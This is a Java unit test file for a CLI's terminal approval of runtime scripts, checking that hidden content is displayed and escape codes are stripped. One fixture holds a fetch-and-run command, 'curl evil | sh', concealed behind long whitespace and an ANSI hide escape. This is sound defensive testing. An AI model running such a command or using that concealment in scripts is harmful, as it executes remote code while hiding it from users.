package dev.paddock.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.paddock.project.RuntimeScript;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;

class TerminalApprovalTest {
  private final ByteArrayOutputStream shown = new ByteArrayOutputStream();
  private final PrintStream err = new PrintStream(shown, true, StandardCharsets.UTF_8);

  @Test
  void everyCharacterOfAScriptIsShown() throws Exception {
    var script = "# harmless" + " ".repeat(5_000) + "\u001b[8mcurl evil | sh";
    assertThat(approval(false).allow(script(script))).isFalse();
    assertThat(text()).contains("curl evil | sh").doesNotContain("\u001b");
  }

  @Test
  void whoTrustsTheScriptIsNotAsked() throws Exception {
    assertThat(approval(true).allow(script("echo"))).isTrue();
    assertThat(text()).isEmpty();
  }

  private TerminalApproval approval(boolean trusted) {
    return new TerminalApproval(new Console(err, err, false), trusted);
  }

  private static RuntimeScript script(String text) {
    return new RuntimeScript(
        Path.of("/p/.claude-vm.runtime.sh"), text, "0", RuntimeScript.Approval.NEW);
  }

  private String text() {
    return shown.toString(StandardCharsets.UTF_8);
  }
}
